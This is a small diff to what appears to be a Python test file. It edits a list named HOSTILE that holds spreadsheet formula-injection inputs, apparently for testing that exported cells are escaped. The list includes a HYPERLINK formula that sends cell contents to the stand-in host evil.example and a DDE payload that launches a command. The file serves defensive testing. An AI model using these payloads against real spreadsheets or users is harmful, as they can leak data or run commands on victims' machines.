@@ -22,7 +22,7 @@ from .conftest import BASELINE, CHALLENGER, QKEYS, study_lines, write_jsonl
 
 HOSTILE = [
     "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=1+2", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
-    "\t=1+2", "\r=1+2", "'=already quoted", "''two quotes", "-", "@", "=",
+    "\t=3+4", "\r=5+6", "'=already quoted", "''two quotes", "-", "@", "=",
 ]
 NUMBERS = ["-0.5", "+3", "-1e-05", "0.25", "-12", ".5"]
 
